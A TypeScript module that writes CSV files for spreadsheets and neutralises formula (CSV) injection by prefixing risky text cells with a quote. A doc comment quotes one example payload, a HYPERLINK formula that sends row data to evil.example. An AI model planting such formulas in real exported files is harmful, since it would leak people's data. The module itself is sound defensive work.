import { stringify } from 'csv-stringify/sync';

/**
 * CSV that analysts open in a spreadsheet. Every CSV file cspi writes for people (the validation report,
 * the child-level lists of `cspi indicators --members` and of the dashboard's download, the report's CSV
 * output) is written by {@link spreadsheetCsv}, so none can carry a formula taken from an input file.
 *
 * Formula injection (CSV injection): Excel, LibreOffice and Google Sheets run a cell whose text begins with
 * `=`, `+`, `-` or `@` as a formula (a tab or carriage return before one is skipped, so they count too),
 * e.g. a child id `=HYPERLINK("https://evil.example/?"&A2,"Open")` in an SSDA903 file would become a live
 * link sending the row away. The OWASP rule is applied: such a TEXT cell is written with a single quote
 * `'` before it, which the spreadsheet shows (so the analyst sees the cell was neutralised) and never runs.
 *
 * Numbers are left alone: a cell given as a JS `number` (a figure cspi computed, e.g. a change of `-3` or a
 * negative difference) is written as is, because a number (`-3`, `-0.5`, `1e-7`) is read by the spreadsheet
 * as that number, never as a formula, and a figure column stays numeric. Text that merely looks like a
 * number (`'-3'` as a string, e.g. a value quoted from an input file in the validation report) IS
 * neutralised, because it came from outside and is shown as text anyway. Dates (ISO `2021-05-01`), LA codes,
 * indicator ids and record ids never begin with one of these characters, so they are unchanged.
 */

/** The characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One cell of a spreadsheet CSV: text (neutralised when needed), a number (as is) or null (empty). */
export type SpreadsheetCell = string | number | null;

/**
 * A text cell a spreadsheet would run as a formula, neutralised by a leading `'` (OWASP); any other text
 * unchanged; null as empty.
 * @example safeCell('=HYPERLINK("x")') //=> "'=HYPERLINK(\"x\")"
 * @example safeCell('-3') //=> "'-3"
 * @example safeCell('2021-05-01') //=> '2021-05-01'
 */
export function safeCell(value: string | null): string {
  if (value === null) return '';
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** How a spreadsheet CSV is laid out. */
export interface SpreadsheetCsvOptions {
  /** Line end (default `\n`; the validation report uses `\r\n`, RFC 4180). */
  readonly recordDelimiter?: '\n' | '\r\n';
  /** A UTF-8 byte order mark first, so Excel reads the file as UTF-8 (default false). */
  readonly bom?: boolean;
}

/**
 * A CSV text for a spreadsheet, from the header and the rows: text cells through {@link safeCell}, numbers
 * written as numbers, null as empty; quoted as RFC 4180 needs (a comma, quote, CR or LF in a cell, whichever
 * the line end).
 * @example spreadsheetCsv(['child', 'change'], [['=1+1', -3]]) //=> "child,change\n'=1+1,-3\n"
 */
export function spreadsheetCsv(
  header: readonly string[],
  rows: readonly (readonly SpreadsheetCell[])[],
  options: SpreadsheetCsvOptions = {},
): string {
  const cells = [header.map(safeCell), ...rows.map((r) => r.map(cellText))];
  // quote_record_delimiter: a cell holding a lone CR or LF is quoted whatever the line end (csv-stringify
  // quotes only the line end given otherwise), so a value `x\n=1+1` cannot start a row of its own.
  const text = stringify(cells, {
    record_delimiter: options.recordDelimiter ?? '\n',
    quote_record_delimiter: true,
  });
  return options.bom ? `\ufeff${text}` : text;
}

function cellText(value: SpreadsheetCell): string {
  if (typeof value === 'number') return String(value);
  return safeCell(value);
}
